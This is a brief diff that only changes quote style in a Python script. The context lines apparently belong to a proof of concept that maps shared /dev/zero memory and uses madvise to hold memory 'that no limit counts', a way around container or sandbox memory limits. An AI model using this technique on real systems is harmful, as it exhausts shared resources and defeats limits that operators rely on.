@@ -16,7 +16,7 @@ taken = 0
 def take(mib):
     global taken
     try:
-        fd = os.open('/dev/zero', os.O_RDWR)
+        fd = os.open("/dev/zero", os.O_RDWR)
         memory = mmap.mmap(fd, mib << 20, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
     except OSError:
         return
@@ -28,7 +28,7 @@ def take(mib):
     if memory[0] == memory[(mib << 20) - 1] == 1:
         taken += mib
     if taken > 600:
-        print('LOOT', taken, 'MiB that no limit counts')
+        print("LOOT", taken, "MiB that no limit counts")
         for each in memories[:-1]:
             libc.madvise(ctypes.c_void_p(ctypes.addressof(ctypes.c_char.from_buffer(each))), 128 << 20, 9)
         memories.clear()
